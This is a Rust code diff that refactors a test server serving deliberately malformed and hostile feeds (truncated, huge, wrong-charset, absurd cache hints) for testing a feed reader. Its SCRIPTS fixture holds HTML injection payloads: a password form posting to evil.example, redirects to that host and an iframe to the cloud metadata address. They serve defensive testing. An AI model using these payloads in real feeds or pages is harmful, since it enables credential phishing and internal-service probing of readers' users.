@@ -4,7 +4,7 @@ use std::fmt::Write as _;
 
 use axum::body::Bytes;
 
-use super::{Answer, HTML, Hostile, Place, RSS, feed, feed_with, item};
+use super::{Answer, HTML, Place, RSS, feed, feed_with, item};
 use crate::reply::{Piece, Reply};
 
 /// What `huge.xml` weighs.
@@ -50,128 +50,74 @@ pub(super) const FUTURES: &[&str] = &[
     "",
 ];
 
-pub(super) const ALL: &[Hostile] = &[
-    Hostile::new("plain.xml", "nothing: a small feed that is well", |_| {
-        feed(&items(0, 5))
-    }),
-    Hostile::new("not-a-feed.html", "an ordinary page", |_| {
-        page(HTML, "<h1>Welcome</h1><p>No feed here.</p>")
-    }),
-    Hostile::new("not-a-feed.txt", "plain text", |_| {
-        Answer::Reply(Reply::new("text/plain", "Nothing but words.\n"))
-    }),
-    Hostile::new("not-a-feed.png", "an image", |_| {
-        Answer::Reply(Reply::new("image/png", PNG))
-    }),
-    Hostile::new(
-        "image-as-feed.xml",
-        "an image that claims to be a feed",
-        |_| Answer::Reply(Reply::new(RSS, PNG)),
-    ),
-    Hostile::new(
-        "html-as-feed.xml",
-        "a page that claims to be a feed",
-        |_| page(RSS, "<h1>Sorry<p>This feed was <br>discontinued."),
-    ),
-    Hostile::new("login.html", "a login page, with status 200", |_| login()),
-    Hostile::new("empty-feed.xml", "a feed without entries", |_| feed("")),
-    Hostile::new("empty-body.xml", "200 and no byte", |_| {
-        Answer::Reply(Reply::new(RSS, Bytes::new()))
-    }),
-    Hostile::new("truncated.xml", "ends in the middle of an entry", |_| {
-        let whole = feed_with(&items(0, 20));
-        let end = whole.rfind("<guid").unwrap_or(0);
-        Answer::Reply(Reply::new(
-            RSS,
-            whole.get(..end).unwrap_or_default().to_owned(),
-        ))
-    }),
-    Hostile::new("truncated.json", "JSON Feed that ends in a string", |_| {
-        let begun = "{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"A feed\",\"items\":[{\"id\":\"1\",\"title\":\"En";
-        Answer::Reply(Reply::new("application/feed+json", begun))
-    }),
-    Hostile::new("huge.xml", "200 MiB of entries, in chunks", |_| {
-        Answer::Reply(Reply::pieces(RSS, huge()))
-    }),
-    Hostile::new(
-        "huge-declared.xml",
-        "200 MiB, told by Content-Length",
-        |_| {
+pub(super) fn answer(name: &str, place: &Place<'_>) -> Option<Answer> {
+    Some(Answer::Reply(match name {
+        "plain.xml" => feed(&items(0, 5)),
+        "not-a-feed.html" => page(HTML, "<h1>Welcome</h1><p>No feed here.</p>"),
+        "not-a-feed.txt" => Reply::new("text/plain", "Nothing but words.\n"),
+        "not-a-feed.png" => Reply::new("image/png", PNG),
+        "image-as-feed.xml" => Reply::new(RSS, PNG),
+        "html-as-feed.xml" => page(RSS, "<h1>Sorry<p>This feed was <br>discontinued."),
+        "login.html" => login(),
+        "empty-feed.xml" => feed(""),
+        "empty-body.xml" => Reply::new(RSS, Bytes::new()),
+        "truncated.xml" => {
+            let whole = feed_with(&items(0, 20));
+            let end = whole.rfind("<guid").unwrap_or(0);
+            Reply::new(RSS, whole.get(..end).unwrap_or_default().to_owned())
+        }
+        "truncated.json" => {
+            let begun = "{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"A feed\",\"items\":[{\"id\":\"1\",\"title\":\"En";
+            Reply::new("application/feed+json", begun)
+        }
+        "huge.xml" => Reply::pieces(RSS, huge()),
+        "huge-declared.xml" => {
             let length = huge().map(|piece| length(&piece)).sum::<usize>();
             let reply = Reply::pieces(RSS, huge());
-            Answer::Reply(reply.with("content-length", length.to_string()))
-        },
-    ),
-    Hostile::new("many-items.xml", "50,000 entries", |_| {
-        Answer::Reply(Reply::pieces(RSS, many()))
-    }),
-    Hostile::new("long-title.xml", "a title of 10 MiB", |_| {
-        feed(&format!(
+            reply.with("content-length", length.to_string())
+        }
+        "many-items.xml" => Reply::pieces(RSS, many()),
+        "long-title.xml" => feed(&format!(
             "<item><title>{}</title></item>",
             "long ".repeat(LONG_TITLE / 5)
-        ))
-    }),
-    Hostile::new(
-        "wrong-charset.xml",
-        "windows-1251 that claims to be UTF-8",
-        |_| {
+        )),
+        "wrong-charset.xml" => {
             let text = feed_with("<item><title>Порт открывает двери</title></item>");
             let bytes = encoding_rs::WINDOWS_1251.encode(&text).0.into_owned();
-            Answer::Reply(Reply::new(RSS, bytes))
-        },
-    ),
-    Hostile::new(
-        "unknown-charset.xml",
-        "a charset that does not exist",
-        |_| {
+            Reply::new(RSS, bytes)
+        }
+        "unknown-charset.xml" => {
             let text = feed_with(&items(0, 3)).replace("\"utf-8\"", "\"x-klingon\"");
-            Answer::Reply(Reply::new("application/rss+xml; charset=x-klingon", text))
-        },
-    ),
-    Hostile::new("utf-16.xml", "UTF-16 with a byte order mark", |_| {
-        let text = feed_with(&items(0, 3)).replace("utf-8", "utf-16");
-        let bytes = std::iter::once(0xFEFF).chain(text.encode_utf16());
-        let bytes: Vec<u8> = bytes.flat_map(u16::to_le_bytes).collect();
-        Answer::Reply(Reply::new("application/rss+xml", bytes))
-    }),
-    Hostile::new("control-letters.xml", "bytes that XML forbids", |_| {
-        feed("<item><title>bell \u{7} nul \u{0} escape \u{1b}[31m</title></item>")
-    }),
-    Hostile::new("duplicate-ids.xml", "ten entries, two ids", |_| {
-        feed(&numbered(10, |number| {
+            Reply::new("application/rss+xml; charset=x-klingon", text)
+        }
+        "utf-16.xml" => {
+            let text = feed_with(&items(0, 3)).replace("utf-8", "utf-16");
+            let bytes = std::iter::once(0xFEFF).chain(text.encode_utf16());
+            let bytes: Vec<u8> = bytes.flat_map(u16::to_le_bytes).collect();
+            Reply::new("application/rss+xml", bytes)
+        }
+        "control-letters.xml" => {
+            feed("<item><title>bell \u{7} nul \u{0} escape \u{1b}[31m</title></item>")
+        }
+        "duplicate-ids.xml" => feed(&numbered(10, |number| {
             format!("<guid>same-{}</guid>", number % 2)
-        }))
-    }),
-    Hostile::new("no-ids.xml", "entries with neither id nor link", |_| {
-        feed("<item><title>One</title></item><item><title>Two</title></item><item></item>")
-    }),
-    Hostile::new("dates.xml", "one instant in twenty ways", |_| {
-        feed(&dated(DATES))
-    }),
-    Hostile::new("futures.xml", "times nobody should believe", |_| {
-        feed(&dated(FUTURES))
-    }),
-    Hostile::new("no-dates.xml", "entries without a time", |_| {
-        feed(&numbered(5, |number| {
+        })),
+        "no-ids.xml" => {
+            feed("<item><title>One</title></item><item><title>Two</title></item><item></item>")
+        }
+        "dates.xml" => feed(&dated(DATES)),
+        "futures.xml" => feed(&dated(FUTURES)),
+        "no-dates.xml" => feed(&numbered(5, |number| {
             format!("<guid>undated-{number}</guid>")
-        }))
-    }),
-    Hostile::new(
-        "scripts.xml",
-        "summaries that attack whoever shows them",
-        |_| feed(SCRIPTS),
-    ),
-    Hostile::new(
-        "hints-absurd.xml",
-        "asks to be left alone for ever",
-        hints_absurd,
-    ),
-    Hostile::new("hints-garbage.xml", "hints that mean nothing", |_| {
-        feed(
+        })),
+        "scripts.xml" => feed(SCRIPTS),
+        "hints-absurd.xml" => hints_absurd(place),
+        "hints-garbage.xml" => feed(
             "<ttl>-5</ttl><skipHours><hour>99</hour><hour>noon</hour></skipHours><skipDays><day>Someday</day></skipDays>",
-        )
-    }),
-];
+        ),
+        _ => return None,
+    }))
+}
 
 /// A picture of one pixel.
 pub(super) const PNG: &[u8] = &[
@@ -188,14 +134,14 @@ const SCRIPTS: &str = "\
 <description><![CDATA[<iframe src=\"http://169.254.169.254/\"></iframe><form action=\"//evil.example\"><input name=password></form>\
 <style>body{display:none}</style><base href=\"//evil.example\"><meta http-equiv=refresh content=\"0;url=//evil.example\">]]></description></item>";
 
-fn page(content_type: &str, body: &str) -> Answer {
+fn page(content_type: &str, body: &str) -> Reply {
     let text = format!(
         "<!doctype html><html><head><title>A page</title></head><body>{body}</body></html>\n"
     );
-    Answer::Reply(Reply::new(content_type, text))
+    Reply::new(content_type, text)
 }
 
-fn login() -> Answer {
+fn login() -> Reply {
     page(
         HTML,
         "<h1>Sign in to continue</h1><form method=\"post\" action=\"/login\"><input name=\"user\">\
@@ -203,7 +149,7 @@ fn login() -> Answer {
     )
 }
 
-fn hints_absurd(_: &Place<'_>) -> Answer {
+fn hints_absurd(_: &Place<'_>) -> Reply {
     let mut items = String::from("<ttl>999999999</ttl><skipHours>");
     for hour in 0..24 {
         let _ = write!(items, "<hour>{hour}</hour>");
@@ -223,7 +169,7 @@ fn hints_absurd(_: &Place<'_>) -> Answer {
     items.push_str("</skipDays>");
     items.push_str(&item(1));
     let reply = Reply::new(RSS, feed_with(&items));
-    Answer::Reply(reply.with("cache-control", "public, max-age=3153600000"))
+    reply.with("cache-control", "public, max-age=3153600000")
 }
 
 fn items(from: usize, until: usize) -> String {
